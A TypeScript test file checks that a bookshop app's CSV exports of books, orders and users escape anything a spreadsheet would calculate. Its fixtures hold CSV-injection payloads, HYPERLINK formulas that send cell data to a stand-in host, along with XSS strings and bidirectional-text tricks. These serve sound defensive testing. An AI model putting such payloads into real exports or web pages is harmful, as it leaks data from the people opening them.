import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { readBookImportRow } from "#app/features/books/book-import.ts";
import { mapBookImportColumns } from "#app/features/books/book-import-columns.ts";
import {
  bookColumns,
  exportFileName,
  headingLine,
  orderColumns,
  rowLine,
  userColumns,
} from "./export-columns.ts";

/** Starts of a cell that a spreadsheet would calculate. */
const FORMULAS = ["=", "+", "-", "@", "\t", "\r"].map((sign) => `${sign}HYPERLINK("//x.example?"&A1,"Ama")`);

/** Markup, signs that turn the writing direction, and what separates cells: all of it is text like any other. */
const PLAIN_TEXTS = [
  "<img src=x onerror=alert(1)>",
  "</td><script>alert(1)</script>",
  "Ama \u202eexe.slx\u202c \u2066=1+1\u2069",
  '"},=1+1,"',
  "two lines,\r\n=1+1",
];

const book = {
  id: "b1",
  title: '=Cambridge, “Lower” "Secondary"',
  publisher: "Schofield & Sims",
  isbn: "9780306406157",
  price: 45.5,
  stock_quantity: 12,
  course: "Primary",
  subject: "Mathematics",
  grade_level: "Grade 4",
  age_range: "9-10",
  curriculum_type: "Cambridge",
  edition: "2nd Edition",
  description: "Twi: ɛ, ɔ.\nTwo lines, ₵.",
  image_url: null,
  average_rating: 4.5,
  review_count: 2,
  created_at: "2026-11-20T08:05:06.789+00:00",
};

const order = {
  id: "o1",
  user_id: "u1",
  created_at: "2026-11-20T08:05:06+00:00",
  status: "pending",
  stock_held: true,
  total_amount: 90,
  customer_name: "Ama",
  customer_email: "ama@school.example",
  customer_phone: "+233201234567",
  recipient_name: null as unknown as string,
  recipient_email: "store@school.example",
  recipient_phone: "020 123",
  shipping_address: "4 School Lane, Kumasi",
};

const user = {
  id: "u1",
  full_name: "@Ama",
  email: "a@b.example",
  phone: "",
  role: "admin",
  created_at: "2026-01-02",
};

const tables = [
  ["books", bookColumns, book],
  ["orders", orderColumns, order],
  ["users", userColumns, user],
] as const;

describe("the exported tables", () => {
  it("write a book so that the import reads it back as it is", () => {
    const [headings = [], cells = []] = parse(
      headingLine(bookColumns) + rowLine(bookColumns, book),
    ) as string[][];
    const result = readBookImportRow(cells, 2, mapBookImportColumns(headings));
    const { id, average_rating, review_count, created_at, ...fields } = book;
    expect(result).toEqual({ row: { line: 2, ...fields }, hints: [] });
  });

  it.each([
    ["9780306406157", "978-0-306-40615-7"],
    ["9789990000009", /^978-/],
    ["AB-0001", "AB-0001"],
    [null, ""],
  ])("write the ISBN %j as text that a spreadsheet does not round", (isbn, written) => {
    const [cells = []] = parse(rowLine(bookColumns, { ...book, isbn })) as string[][];
    expect(cells[2]).toMatch(written instanceof RegExp ? written : new RegExp(`^${written}$`));
  });

  it.each(tables)(
    "of %s calculate nothing and change no other text, whatever a person has typed",
    (_, columns, row) => {
      const headings = Object.keys(columns);
      const isTyped = (value: unknown) => typeof value === "string" && Number.isNaN(Date.parse(value));
      for (const text of [...FORMULAS, ...PLAIN_TEXTS]) {
        const typed = Object.entries(row).map(([field, value]) => [field, isTyped(value) ? text : value]);
        const cells = parse(rowLine<never>(columns, Object.fromEntries(typed) as never)) as string[][];
        expect(cells, text).toHaveLength(1);
        expect(cells[0], text).toHaveLength(headings.length);
        const written = FORMULAS.includes(text) ? `'${text}` : text;
        expect(cells[0]?.filter((cell) => cell === written).length, text).toBeGreaterThanOrEqual(5);
        for (const cell of cells[0] ?? []) expect(cell, text).not.toMatch(/^[=+\-@\t\r]/);
      }
    },
  );

  it("write an order with its customer and recipient; a phone number is no formula", () => {
    expect(rowLine(orderColumns, order)).toBe(
      'o1,2026-11-20 08:05,pending,90.00,Ama,ama@school.example,\'+233201234567,,store@school.example,020 123,"4 School Lane, Kumasi"\r\n',
    );
  });

  it("write a user with the role", () => {
    expect(rowLine(userColumns, user)).toBe("'@Ama,a@b.example,,admin,2026-01-02 00:00,u1\r\n");
  });

  it("are named after what they hold and the day", () => {
    const at = new Date("2026-11-20T23:59:00Z");
    expect(exportFileName("books", false, at)).toBe("books-2026-11-20.csv");
    expect(exportFileName("orders", true, at)).toBe("orders-matching-2026-11-20.csv");
  });
});
